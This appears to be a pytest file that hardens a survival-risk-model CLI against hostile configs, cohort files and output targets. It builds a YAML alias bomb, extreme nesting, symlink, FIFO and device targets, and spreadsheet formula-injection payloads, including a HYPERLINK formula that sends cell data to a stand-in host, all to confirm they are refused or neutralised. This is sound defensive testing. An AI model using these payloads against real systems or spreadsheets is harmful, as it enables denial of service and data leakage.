"""Hostile configs, cohort files and output targets (issue 17, parts 3 and 4).

Each hostile input ends in exit code 2 with one bounded line per problem, or is refused before
any work; outputs never replace a special file, spreadsheets never run a cell, and a killed run's
temporaries are cleaned by the next.
"""

from __future__ import annotations

import errno
import json
import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from riskmodel.cli import app
from riskmodel.cohort import bundled_cohort_path, load
from riskmodel.config import load_experiment
from riskmodel.core import files
from riskmodel.core.csvout import safe_csv_text
from riskmodel.core.files import STALE_AFTER_S, atomic_write_text, clean_stale_temporaries, staged_folder
from riskmodel.core.yamlio import MAX_YAML_BYTES
from riskmodel.errors import MAX_LINE_CHARS, CohortFileError, UserInputError
from riskmodel.scoring.patients import write_scores

runner = CliRunner()
BASE = pd.read_csv(bundled_cohort_path(), dtype=str, keep_default_na=False)


def _one_line_exit_2(args: list[str], *, env: dict[str, str] | None = None) -> str:
    result = runner.invoke(app, args, env=env)
    out = result.output.strip()
    assert result.exit_code == 2, (result.exit_code, out[:2000], result.exception)
    assert "Traceback" not in out
    lines = [line for line in out.splitlines() if not line.startswith("Validating ")]  # validate-data's heading
    assert len(lines) == 1, out[:2000]
    assert len(lines[0]) <= MAX_LINE_CHARS + 200, len(lines[0])  # the file's path may come on top
    return lines[0]


def _experiment(tmp_path: Path, body: str, name: str = "e.yaml") -> Path:
    path = tmp_path / name
    path.write_text(body, encoding="utf-8")
    return path


# YAML ---------------------------------------------------------------------------------------------


def _laughs(levels: int) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines)


def test_an_alias_bomb_is_refused_by_its_expansion_before_anything_is_built(tmp_path: Path) -> None:
    # nine levels of nine: 387 million strings from 600 bytes
    body = "name: x\ndescription:\n  " + _laughs(9).replace("\n", "\n  ") + "\n"
    assert len(body) < 700
    line = _one_line_exit_2(["config", "validate", str(_experiment(tmp_path, body))])
    assert "aliases" in line, line
    assert "expand to more than" in line, line


def test_200k_deep_nesting_is_one_line_not_a_recursion_error(tmp_path: Path) -> None:
    body = "name: x\ndescription: " + "[" * 200_000 + "]" * 200_000 + "\n"
    line = _one_line_exit_2(["config", "validate", str(_experiment(tmp_path, body))])
    assert "nested more than" in line, line
    assert "line 2" in line, line


def test_a_yaml_file_over_the_size_limit_is_refused_before_reading(tmp_path: Path) -> None:
    body = "name: x\ndescription: " + "y" * (MAX_YAML_BYTES + 1) + "\n"
    line = _one_line_exit_2(["config", "validate", str(_experiment(tmp_path, body))])
    assert "bytes is more than" in line, line


def test_a_key_given_twice_is_refused_with_both_lines(tmp_path: Path) -> None:
    path = _experiment(tmp_path, "name: x\nmodels:\n  rsf:\n    n_estimators: 10\n    n_estimators: 20\n")
    line = _one_line_exit_2(["config", "validate", str(path)])
    assert "'n_estimators' is given twice (lines 4 and 5)" in line, line

    mapping = _experiment(tmp_path, "columns:\n  Age: age_years\n  Age: sex\n", "mapping.yaml")
    with pytest.raises(CohortFileError, match="'Age' is given twice"):
        load(bundled_cohort_path(), mapping=mapping)


def test_small_aliases_and_merge_keys_still_load(tmp_path: Path) -> None:
    body = (
        "name: x\n"
        "horizons: &h [6.0, 12.0]\n"
        "tune:\n  space:\n    rsf:\n      n_estimators: &n {low: 100, high: 200, step: 50, integer: true}\n"
        "      min_samples_leaf:\n        <<: *n\n        low: 1\n        step: 1\n"
    )
    config = load_experiment(_experiment(tmp_path, body))
    assert config.horizons == [6.0, 12.0]
    assert config.tune.space["rsf"]["min_samples_leaf"].low == 1


def test_a_long_value_is_cut_in_a_one_line_message(tmp_path: Path) -> None:
    path = _experiment(tmp_path, "name: " + "x" * 200_000 + "\n")
    line = _one_line_exit_2(["config", "validate", str(path)])
    assert line.startswith(f"{path}: name, value 'xxx"), line[:300]
    assert "..." in line, line[:300]


# Numbers and limits -------------------------------------------------------------------------------


def test_a_seed_beyond_32_bits_is_refused_at_validation(tmp_path: Path) -> None:
    path = _experiment(tmp_path, "name: x\nseed: 1000000000000000000000000\n")
    line = _one_line_exit_2(["config", "validate", str(path)])
    assert "seed" in line, line
    assert "4294967295" in line, line


def test_settings_above_the_safety_limits_are_refused_with_how_to_lift_them(tmp_path: Path) -> None:
    path = _experiment(tmp_path, "name: x\nmodels:\n  rsf:\n    n_estimators: 1000000000000\n")
    line = _one_line_exit_2(["config", "validate", str(path)])
    assert "models.rsf.n_estimators" in line, line
    assert "RISKMODEL_NO_LIMITS=1" in line, line
    lifted = runner.invoke(app, ["config", "validate", str(path)], env={"RISKMODEL_NO_LIMITS": "1"})
    assert lifted.exit_code == 0, lifted.output

    for body, key in [
        ("evaluation:\n  bootstrap: 100000000\n", "evaluation.bootstrap"),
        ("evaluation:\n  n_repeats: 100000\n", "evaluation.n_repeats"),
        ("models:\n  gbm:\n    max_depth: 1000\n", "models.gbm.max_depth"),
        ("tune:\n  space:\n    gbm:\n      n_estimators: {low: 10, high: 1.0e+12}\n", "tune.space.gbm.n_estimators"),
        ("tune:\n  space:\n    rsf:\n      max_depth: {choices: [3, 100000]}\n", "tune.space.rsf.max_depth"),
        (f"horizons: [{', '.join(str(h) for h in range(1, 40))}]\n", "horizons"),
    ]:
        line = _one_line_exit_2(["config", "validate", str(_experiment(tmp_path, "name: x\n" + body))])
        assert key in line, line
        assert "RISKMODEL_NO_LIMITS" in line, line


def test_tune_trials_above_the_limit_are_refused_before_any_study(tmp_path: Path) -> None:
    env = {"MLFLOW_TRACKING_URI": f"sqlite:///{tmp_path}/mlruns/mlflow.db"}
    line = _one_line_exit_2(["tune", "experiments/default.yaml", "--trials", "1000000000"], env=env)
    assert "--trials" in line, line
    assert "RISKMODEL_NO_LIMITS" in line, line
    assert not (tmp_path / "mlruns").exists()


# Cohort files -------------------------------------------------------------------------------------


def _table() -> pa.Table:
    return pa.Table.from_pandas(BASE, preserve_index=False)


@pytest.mark.parametrize(
    ("column", "values", "words"),
    [
        ("notes", [[1, 2]], "holds lists"),
        ("record", [{"a": 1}], "holds records"),
        ("lookup", pa.array([[("k", 1)]], type=pa.map_(pa.string(), pa.int64())), "holds lists or maps"),
    ],
)
def test_a_parquet_column_of_lists_or_records_is_named(tmp_path: Path, column: str, values: list, words: str) -> None:
    table = _table()
    n = table.num_rows
    array = pa.array(values * n) if isinstance(values, list) else pa.concat_arrays([values] * n)
    path = tmp_path / "nested.parquet"
    pq.write_table(table.append_column(column, array), path)
    line = _one_line_exit_2(["validate-data", str(path)])
    assert f"column '{column}' {words}" in line, line


def test_repeated_parquet_column_names_are_one_bounded_line(tmp_path: Path) -> None:
    table = _table()
    columns = [table.column(i) for i in range(table.num_columns)]
    path = tmp_path / "repeated.parquet"
    pq.write_table(pa.Table.from_arrays(columns * 3, names=table.column_names * 3), path)
    line = _one_line_exit_2(["validate-data", str(path)])
    assert "repeated column names" in line, line
    assert "more" in line, line


def _many_rows(n: int = 2000) -> pd.DataFrame:
    rows = pd.concat([BASE] * (n // len(BASE) + 1), ignore_index=True).head(n)
    return rows.assign(patient_id=[f"P{i:05d}" for i in range(n)], note="plain")


def test_a_latin1_file_whose_first_accent_is_beyond_64_kib_is_read_as_cp1252(tmp_path: Path) -> None:
    rows = _many_rows()
    rows.loc[len(rows) - 3, "note"] = "Ren\xe9e"
    path = tmp_path / "late.csv"
    rows.to_csv(path, index=False, encoding="latin-1")
    raw = path.read_bytes()
    assert raw.index(b"\xe9") > 65536
    assert max(raw[:65536]) < 128
    cohort = load(path)
    assert len(cohort) == len(rows)


def test_a_file_mixing_utf8_and_latin1_is_refused_with_the_line(tmp_path: Path) -> None:
    rows = _many_rows()
    rows.loc[2, "note"] = "na\u00efve"
    text = rows.to_csv(index=False).encode("utf-8")
    last = text.rindex(b"plain")
    mixed = text[:last] + "Ren\xe9e".encode("latin-1") + text[last + 5 :]
    path = tmp_path / "mixed.csv"
    path.write_bytes(mixed)
    line = _one_line_exit_2(["validate-data", str(path)])
    expected = mixed[:last].count(b"\n") + 1
    assert f"line {expected} is not UTF-8" in line, line


def test_a_byte_neither_utf8_nor_cp1252_is_named_with_its_line(tmp_path: Path) -> None:
    text = BASE.assign(note="x").to_csv(index=False).encode()
    last = text.rindex(b"x")
    path = tmp_path / "undefined.csv"
    path.write_bytes(text[:40] + b"\xe9" + text[40:last] + b"\x81" + text[last + 1 :])
    line = _one_line_exit_2(["validate-data", str(path)])
    assert f"line {len(BASE) + 1} has the byte 0x81" in line, line


@pytest.mark.parametrize("fmt", ["%", "%Q", "%d/%m/%Y %"])
def test_a_broken_date_format_in_a_mapping_is_one_line(tmp_path: Path, fmt: str) -> None:
    mapping = _experiment(tmp_path, f'date_format: "{fmt}"\n', "mapping.yaml")
    line = _one_line_exit_2(["validate-data", str(bundled_cohort_path()), "--mapping", str(mapping)])
    assert "date_format" in line, line
    assert "not a date format" in line, line


# Outputs ------------------------------------------------------------------------------------------


def test_atomic_writes_refuse_a_symlink_and_leave_it_and_its_file_alone(tmp_path: Path) -> None:
    real = tmp_path / "real.json"
    real.write_text("keep")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    with pytest.raises(UserInputError, match="is a symbolic link"):
        atomic_write_text(link, "new")
    assert link.is_symlink()
    assert real.read_text() == "keep"


def test_atomic_writes_refuse_a_fifo_and_train_refuses_it_before_training(tmp_path: Path) -> None:
    fifo = tmp_path / "summary.json"
    os.mkfifo(fifo)
    with pytest.raises(UserInputError, match="not a regular file"):
        atomic_write_text(fifo, "new")
    assert fifo.is_fifo()
    env = {"MLFLOW_TRACKING_URI": f"sqlite:///{tmp_path}/mlruns/mlflow.db"}
    line = _one_line_exit_2(["train", "--models", "cox", "--summary-json", str(fifo)], env=env)
    assert "--summary-json" in line, line
    assert "not a regular file" in line, line
    assert fifo.is_fifo()
    assert not (tmp_path / "mlruns").exists()


def test_a_device_node_is_refused_not_replaced(tmp_path: Path) -> None:
    # A private copy of /dev/null's node: the test must never touch the real one, even when run
    # as root against code that would replace it.
    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("creating a device node needs root")
    with pytest.raises(UserInputError, match="not a regular file"):
        atomic_write_text(device, "new")
    assert device.is_char_device()


def test_a_report_folder_holding_a_link_is_refused_before_any_file_moves(tmp_path: Path) -> None:
    out = tmp_path / "report"
    out.mkdir()
    (out / "a.csv").write_text("old a")
    (out / "b.csv").symlink_to(tmp_path / "elsewhere.csv")

    def write_report() -> None:
        with staged_folder(out, merge=True) as stage:
            (stage / "a.csv").write_text("new a")
            (stage / "b.csv").write_text("new b")

    with pytest.raises(UserInputError, match="symbolic link"):
        write_report()
    assert (out / "a.csv").read_text() == "old a"
    assert (out / "b.csv").is_symlink()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_synthetic_refuses_a_bad_seed_or_size_and_a_special_target(tmp_path: Path) -> None:
    out = tmp_path / "s.csv"
    assert "--seed -1: must be between 0 and 4294967295" in _one_line_exit_2(["synthetic", str(out), "--seed", "-1"])
    line = _one_line_exit_2(["synthetic", str(out), "--n", "1000000000000"])
    assert "RISKMODEL_NO_LIMITS" in line, line
    real = tmp_path / "real.csv"
    real.write_text("keep")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert "is a symbolic link" in _one_line_exit_2(["synthetic", str(link), "--n", "40"])
    assert real.read_text() == "keep"
    assert not out.exists()


def test_an_atomic_write_keeps_the_replaced_files_permissions(tmp_path: Path) -> None:
    target = tmp_path / "scores.csv"
    target.write_text("old")
    target.chmod(0o640)
    atomic_write_text(target, "new")
    assert target.stat().st_mode & 0o777 == 0o640
    fresh = tmp_path / "fresh.csv"
    atomic_write_text(fresh, "new")
    umask = os.umask(0o022)
    os.umask(umask)
    assert fresh.stat().st_mode & 0o777 == 0o666 & ~umask  # as open() makes it, not mkstemp's 0600


def _full_disk(*args: object, **kwargs: object) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


def test_a_full_disk_is_one_line_and_the_old_file_stays_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "scores.json"
    target.write_text("old scores")
    monkeypatch.setattr(files.os, "fsync", _full_disk)
    with pytest.raises(UserInputError, match="no space left on device") as info:
        atomic_write_text(target, "new scores")
    assert str(target) in str(info.value)
    assert "\n" not in str(info.value)
    assert target.read_text() == "old scores"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["scores.json"]


def test_a_full_disk_while_a_folder_is_staged_leaves_the_old_folder(tmp_path: Path) -> None:
    out = tmp_path / "report"
    out.mkdir()
    (out / "a.csv").write_text("old")

    def write_report() -> None:
        with staged_folder(out, merge=True) as stage:
            (stage / "a.csv").write_text("half")
            _full_disk()

    with pytest.raises(UserInputError, match="no space left on device"):
        write_report()
    assert (out / "a.csv").read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_a_full_disk_anywhere_in_a_command_is_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "mlruns" / "mlflow.db"))

    monkeypatch.setattr("riskmodel.core.yamlio.safe_yaml", full)
    line = _one_line_exit_2(["config", "validate", "experiments/default.yaml"])
    assert "mlflow.db: cannot write it (no space left on device)" in line, line


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_a_killed_runs_temporaries_are_cleaned_by_the_next_write(tmp_path: Path) -> None:
    dead, alive = _dead_pid(), os.getpid()
    dead_dir = tmp_path / f".report.{dead}.abcd1234.tmp"
    dead_dir.mkdir()
    (dead_dir / "report.html").write_text("half")
    dead_file = tmp_path / f".scores.json.{dead}.k9_x2b7q.tmp"
    dead_file.write_text("")
    old_untagged = tmp_path / ".report.q1w2e3r4.tmp"
    old_untagged.mkdir()
    past = time.time() - STALE_AFTER_S - 60
    os.utime(old_untagged, (past, past))
    live = tmp_path / f".other.json.{alive}.zzzzzzzz.tmp"
    live.write_text("being written")
    fresh_untagged = tmp_path / ".report.a1s2d3f4.tmp"
    fresh_untagged.mkdir()
    stranger = tmp_path / ".notes.tmp"
    stranger.write_text("not ours")

    atomic_write_text(tmp_path / "scores.json", "{}")

    assert not dead_dir.exists()
    assert not dead_file.exists()
    assert not old_untagged.exists()
    assert live.exists()
    assert fresh_untagged.exists()
    assert stranger.exists()
    assert clean_stale_temporaries(tmp_path) == []


def test_csv_outputs_neutralise_formula_cells_and_json_stays_exact(tmp_path: Path) -> None:
    ids = ['=HYPERLINK("http://x.example/?q="&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "P-7"]
    records = [
        {"patient_id": pid, "risk_score": -0.25 * i, "risk_group": "high", "survival": {"12": 0.5}, "flags": []}
        for i, pid in enumerate(ids)
    ]
    out = tmp_path / "scores.csv"
    write_scores(records, out)
    cells = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert list(cells["patient_id"]) == ["'" + ids[0], "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "P-7"]
    assert list(cells["risk_score"].astype(float)) == [-0.25 * i for i in range(len(ids))]  # numbers stay numbers

    json_out = tmp_path / "scores.json"
    write_scores(records, json_out)
    assert [r["patient_id"] for r in json.loads(json_out.read_text())] == ids

    table = pd.DataFrame({"covariate": ["-x", "age"], "hr": [-1.0, 2.0]}).set_index("covariate")
    assert safe_csv_text(table).splitlines() == ["covariate,hr", "'-x,-1.0", "age,2.0"]
